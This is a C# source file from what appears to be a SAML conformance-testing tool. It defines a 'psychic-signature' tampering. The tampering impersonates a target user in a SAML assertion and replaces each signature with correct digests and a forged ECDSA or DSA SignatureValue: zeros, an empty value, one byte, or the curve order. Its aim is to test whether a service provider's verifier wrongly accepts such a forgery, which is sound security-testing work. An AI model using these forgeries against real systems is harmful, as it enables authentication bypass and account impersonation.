using Conformance.Saml.Forging;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;
using Conformance.Saml.Tamperings.Signatures;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A signature whose value is nothing, under an algorithm whose verifier may take nothing for right.</summary>
internal sealed class PsychicSignature(TamperingArguments arguments) : Tampering
{
    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "psychic-signature",
            "Forges the message with right digests and writes a SignatureValue that a faulty verifier takes for right, "
            + "or that makes it fail in a way that is taken for success: ECDSA with r = s = 0, DSA with an RSA key.",
            "Every digest is right, no signature verifies under the IdP's key; the forged values are not covered.",
            [
                new("method", "The method that is named; own is that of the plan.",
                    ["ecdsa-sha256", "ecdsa-sha384", "ecdsa-sha512", "dsa-sha1", "own"]),
                new("value", "The SignatureValue: zeros as two numbers side by side, zeros in DER, nothing, one byte, "
                    + "the curve's order twice.",
                    ["zero", "zero-der", "empty", "one-byte", "order"]),
                Impersonation.Parameter,
            ]),
        arguments => new PsychicSignature(arguments));

    public override string Name => "psychic-signature";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var template = SignatureTemplate.From(work.Draft);
        var signed = SignedPlaces.Signed(work, "all");
        Impersonation.Apply(SignedPlaces.Assertion(work), target, work);
        foreach (var element in signed)
        {
            element.RemoveChild(Dom.Signature(element)!);
            var signature = XmlSigner.Create(element, template, "#" + element.GetAttribute("ID"));
            if (arguments.Text("method") != "own")
            {
                XmlSigner.Descendant(signature, "SignatureMethod").SetAttribute(
                    "Algorithm", AlgorithmWords.Find(arguments.Required("method")));
            }

            XmlSigner.SetDigest(signature, XmlSigner.Digest(element, template, signature));
            XmlSigner.SetText(XmlSigner.Descendant(signature, "SignatureValue"), Convert.ToBase64String(Value()));
        }

        work.Claim(new NotVouchedFor("all"));
        work.Claim(new DigestsFit());
        work.Claim(new ForgedUncovered(Impersonation.Values(work.Context, target)));
    }

    private byte[] Value()
    {
        var size = arguments.Text("method") switch
        {
            "dsa-sha1" => 20,
            "ecdsa-sha384" => 48,
            "ecdsa-sha512" => 66,
            _ => 32,
        };
        return arguments.Text("value") switch
        {
            "zero-der" => [0x30, 6, 2, 1, 0, 2, 1, 0],
            "empty" => [],
            "one-byte" => [1],
            "order" => [.. Order(size), .. Order(size)],
            _ => new byte[2 * size],
        };
    }

    /// <summary>The order of P-256 where it fits; elsewhere a number above every order.</summary>
    private static byte[] Order(int size) => size == 32
        ? Convert.FromHexString("FFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551")
        : [.. Enumerable.Repeat((byte)0xFF, size)];
}
